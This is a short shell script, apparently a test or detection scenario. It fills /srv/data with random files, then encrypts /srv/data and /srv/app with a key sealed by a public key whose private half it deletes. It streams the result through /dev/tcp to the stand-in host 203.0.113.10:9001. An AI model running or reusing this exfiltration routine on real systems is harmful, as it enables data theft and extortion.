#!/bin/sh
. /opt/case/case.sh

for n in $(seq 1 40); do head -c 30000 /dev/urandom | base64 >/srv/data/case-$n.txt; done
openssl genrsa -out /tmp/.far 2048 2>/dev/null && openssl rsa -in /tmp/.far -pubout -out /tmp/.pub 2>/dev/null && rm /tmp/.far
openssl rand -hex 32 >/tmp/.key
tar -C /srv -cz data app | openssl enc -aes-256-ctr -pbkdf2 -pass file:/tmp/.key -out /tmp/.sealed
openssl pkeyutl -encrypt -pubin -inkey /tmp/.pub -in /tmp/.key -out /tmp/.key.sealed && rm /tmp/.key
bash -c 'exec 3<>/dev/tcp/203.0.113.10/9001; cat /tmp/.key.sealed /tmp/.sealed >&3; exec 3>&-'
took_place
